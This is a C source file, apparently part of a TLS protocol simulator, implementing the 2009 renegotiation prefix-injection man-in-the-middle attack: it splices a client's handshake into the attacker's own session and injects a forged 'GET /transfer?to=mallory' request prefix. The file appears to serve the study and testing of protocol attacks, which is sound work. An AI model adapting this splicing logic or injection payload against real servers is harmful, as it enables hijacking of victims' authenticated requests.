/*
 * The attack of 2009 (RFC 5746 §1). The attacker keeps the client waiting, opens a connection of his own to the server
 * and says the beginning of a request. Then he lets the client's handshake in: what the client says in the clear he
 * puts into his protected records, so that the server takes it for a renegotiation of his connection; what the server
 * answers he takes out. Once a side has switched to its new keys, which he does not have, its records go on as they
 * are.
 */
#include "base/memory.h"
#include "base/text.h"
#include "sim/attacker/attacker_kind.h"
#include "tls/peer/peer.h"
#include "tls/record/key_change.h"
#include "tls/record/record.h"
#include "tls/telling/telling.h"

/* Ends in the middle of a header, which is to swallow the first line of the client's request. */
static const char default_injection[] = "GET /transfer?to=mallory HTTP/1.1\r\nX-Ignore: ";

/* What comes from one side. */
typedef struct Lane {
    Buffer waiting;         /* came, and is not handed on yet */
    Protection *protection; /* of his connection: seals what the client says, opens what the server says */
    bool switched;          /* the side has keys that he lacks */
} Lane;

typedef struct Injector {
    Attacker base;
    Random *random;
    Observer observer; /* of his peer */
    PeerConfig config;
    Peer *peer;       /* his own connection; NULL before the client spoke */
    uint16_t version; /* of that; 0 before it stands */
    Lane lanes[2];    /* by who sends */
} Injector;

static Attacker *make(const AttackerConfig *config)
{
    (void)config;
    Injector *injector = memory_new(sizeof *injector);
    return &injector->base;
}

static void clear(Attacker *attacker)
{
    Injector *injector = (Injector *)attacker;
    peer_free(injector->peer);
    random_free(injector->random);
    for (int side = ACTOR_CLIENT; side <= ACTOR_SERVER; side++) {
        buffer_clear(&injector->lanes[side].waiting);
        protection_free(injector->lanes[side].protection);
    }
}

static void tell(const Injector *injector, EventId id)
{
    Teller teller = {injector->base.config.observer, ACTOR_ATTACKER, 0};
    telling_state(&teller, id);
}

/* His own connection */

/* What his peer tells as a client it does for him. */
static void observe_peer(void *context, const Event *event)
{
    const Injector *injector = context;
    const Observer *observer = injector->base.config.observer;
    Event his = *event;
    his.actor = ACTOR_ATTACKER;
    observer->observe(observer->context, &his);
}

/* He presents himself as the client would. */
static void begin_connection(Injector *injector)
{
    const AttackerConfig *config = &injector->base.config;
    Bytes seed = bytes_of_text(scenario_get(config->scenario, SCENARIO_SEED, ACTOR_ATTACKER, config->connection, 1));
    Buffer scope = BUFFER_EMPTY;
    text_append(&scope, "c");
    text_append_decimal(&scope, (uint64_t)config->connection);
    text_append(&scope, ".attacker");
    injector->random = random_new_seeded(seed, text_finish(&scope));
    buffer_clear(&scope);

    injector->observer = (Observer){observe_peer, injector};
    injector->config = *config->client;
    injector->config.random = injector->random;
    injector->config.observer = config->observer ? &injector->observer : NULL;
    injector->config.renegotiation = RENEGOTIATION_NONE;
    tell(injector, EVENT_ATTACKER_OPENS);
    injector->peer = peer_new(&injector->config);
}

static void say_injection(Injector *injector)
{
    const AttackerConfig *config = &injector->base.config;
    Buffer text = BUFFER_EMPTY;
    if (!scenario_append_words(&text, config->scenario, SCENARIO_INJECTION, ACTOR_ATTACKER, config->connection, 1))
        text_append(&text, default_injection);
    peer_write(injector->peer, buffer_bytes(&text));
    buffer_clear(&text);
    while (peer_step(injector->peer))
        ;
}

/* From here on he keeps his connection's records himself. */
static void take_over(Injector *injector)
{
    PeerSummary summary;
    peer_summary(injector->peer, &summary);
    if (peer_release(injector->peer, &injector->lanes[ACTOR_SERVER].protection,
                     &injector->lanes[ACTOR_CLIENT].protection))
        injector->version = summary.version;
}

/* Goes on with his own handshake; one that fails is the end of both connections. */
static void open_connection(Injector *injector, AttackerOutput *out)
{
    Buffer *came = &injector->lanes[ACTOR_SERVER].waiting;
    if (!injector->peer)
        begin_connection(injector);
    peer_receive(injector->peer, buffer_bytes(came));
    buffer_truncate(came, 0);
    while (peer_step(injector->peer))
        ;
    PeerState state = peer_state(injector->peer);
    if (state == PEER_CONNECTED)
        say_injection(injector);
    buffer_append(&out->bytes[ACTOR_SERVER], peer_output(injector->peer));
    peer_output_take(injector->peer, SIZE_MAX);
    if (state == PEER_CONNECTED)
        take_over(injector);
    else if (state != PEER_HANDSHAKING)
        out->ended[ACTOR_CLIENT] = out->ended[ACTOR_SERVER] = true;
}

/* The client's handshake within it */

static void put_in(Injector *injector, Buffer *out, const Record *record)
{
    Protection *protection = injector->lanes[ACTOR_CLIENT].protection;
    Buffer name = BUFFER_EMPTY;
    text_append(&name, "h1.record.");
    text_append_decimal(&name, protection_sequence_number(protection));
    text_append(&name, ".iv");
    record_header_append(out, record->type, injector->version,
                         protection_sealed_size(protection, record->fragment.size));
    protection_seal(protection, out, record->type, injector->version, record->fragment, injector->random,
                    text_finish(&name));
    buffer_clear(&name);
}

/* What does not open goes nowhere; a server's records do open. */
static void take_out(Injector *injector, Buffer *out, const Record *record)
{
    Buffer content = BUFFER_EMPTY;
    uint8_t type = record->type;
    if (!protection_open(injector->lanes[ACTOR_SERVER].protection, &content, &type, record->version,
                         record->fragment)) {
        record_header_append(out, type, injector->version, content.size);
        buffer_append(out, buffer_bytes(&content));
    }
    buffer_clear(&content);
}

/* Records up to the one behind which the side has keys of its own; true where there were some. */
static bool splice(Injector *injector, Buffer *out, Actor from)
{
    Lane *lane = &injector->lanes[from];
    Record record;
    size_t read = 0;
    while (!lane->switched &&
           record_parse(&record, bytes_slice(buffer_bytes(&lane->waiting), read, lane->waiting.size)) == ERROR_NONE &&
           record.bytes.size > 0) {
        if (from == ACTOR_CLIENT)
            put_in(injector, out, &record);
        else
            take_out(injector, out, &record);
        lane->switched = key_change_of(injector->version, from, record.type).side[from];
        read += record.bytes.size;
    }
    buffer_consume(&lane->waiting, read);
    return read > 0;
}

static void hand_on(Injector *injector, AttackerOutput *out, Actor from)
{
    Lane *lane = &injector->lanes[from];
    Buffer *to = &out->bytes[attacker_other_side(from)];
    if (splice(injector, to, from))
        tell(injector, from == ACTOR_CLIENT ? EVENT_ATTACKER_SPLICES_TO_SERVER : EVENT_ATTACKER_SPLICES_TO_CLIENT);
    if (!lane->switched || lane->waiting.size == 0)
        return;
    buffer_append(to, buffer_bytes(&lane->waiting));
    buffer_truncate(&lane->waiting, 0);
    attacker_tell_pass(&injector->base, from);
}

static void hear(Attacker *attacker, AttackerOutput *out, Actor from, Bytes wire)
{
    Injector *injector = (Injector *)attacker;
    buffer_append(&injector->lanes[from].waiting, wire);
    if (!injector->version)
        open_connection(injector, out);
    if (!injector->version)
        return;
    hand_on(injector, out, ACTOR_CLIENT);
    hand_on(injector, out, ACTOR_SERVER);
}

const AttackerKind attacker_inject = {.make = make, .hear = hear, .hear_end = attacker_pass_end, .clear = clear};
